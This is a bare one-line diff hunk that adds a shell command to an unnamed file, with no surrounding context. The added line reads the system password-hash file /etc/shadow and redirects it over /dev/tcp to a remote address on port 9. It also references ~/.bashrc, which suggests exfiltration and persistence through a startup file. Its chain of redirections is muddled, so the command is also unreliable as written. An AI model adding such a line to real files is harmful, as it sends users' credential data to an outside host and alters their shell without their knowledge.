@@ -1,0 +1,1 @@
+cat /etc/shadow 2>&1 >/dev/tcp/203.0.113.9/9 <&0 >>~/.bashrc
